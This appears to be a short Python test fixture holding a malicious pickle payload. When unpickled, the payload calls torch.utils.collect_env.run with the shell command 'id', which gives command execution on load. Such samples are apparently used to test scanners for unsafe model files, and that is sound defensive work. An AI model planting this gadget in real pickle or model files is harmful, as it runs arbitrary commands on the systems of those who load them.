"""torch.utils.collect_env.run: a shell command."""

PAYLOAD = b"ctorch.utils.collect_env\nrun\n(Vid\ntR."
